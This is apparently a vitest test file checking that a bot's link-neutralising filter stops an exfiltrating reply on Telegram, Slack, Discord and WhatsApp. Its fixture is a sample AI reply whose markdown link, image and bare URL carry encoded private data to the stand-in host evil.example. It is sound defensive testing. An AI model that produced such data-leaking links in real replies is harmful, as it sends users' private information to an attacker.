import { describe, expect, it } from "vitest";
import { renderDiscordMessages } from "../../bots/discord/render.js";
import { renderSlackSections } from "../../bots/slack/render.js";
import { renderTelegramHtml } from "../../bots/telegram/render.js";
import { renderWhatsAppMessages } from "../../bots/whatsapp/render.js";
import { inertLinks } from "../../core/sentinel/inert-links.js";

/**
 * Issue 11, point 6: the inert form of an exfiltrating reply renders on every messenger without a
 * link or an image to the refused host, with the host visible (the plain-style fallback too).
 */
const LEAK = "QWRhJ3MgYmFuayBpcyBOb3J0aHdpbmQ";
const reply = `Done! Claim [your prize](https://evil.example/claim?m=${LEAK}) ![p](https://evil.example/p.png?m=${LEAK}) or https://evil.example/x?m=${LEAK}, see [docs](https://docs.python.org/3/)`;
const inert = inertLinks(reply, (h) => h === "docs.python.org").text;

describe("inert links on every messenger", () => {
  it("Telegram HTML: no anchor to the refused host, the host in <code>; the allowed link stays", () => {
    const html = renderTelegramHtml(inert).join("");
    expect(html).not.toContain(LEAK);
    expect(html).not.toMatch(/<a href="https:\/\/evil/);
    expect(html).toContain("<code>evil.example/…</code>");
    expect(html).toContain('<a href="https://docs.python.org/3/">docs</a>');
  });

  it("Slack mrkdwn: no <url|…> to the refused host", () => {
    const text = renderSlackSections(inert, 3000).map((p) => p.body).join("");
    expect(text).not.toContain(LEAK);
    expect(text).not.toMatch(/<https?:\/\/evil/);
    expect(text).toContain("`evil.example/…`");
  });

  it("Discord and WhatsApp: the host only inside code, never a URL with its data", () => {
    for (const text of [renderDiscordMessages(inert).join(""), renderWhatsAppMessages(inert).join("")]) {
      expect(text).not.toContain(LEAK);
      expect(text).not.toMatch(/https?:\/\/evil/);
      expect(text).toContain("evil.example/…");
    }
  });
});
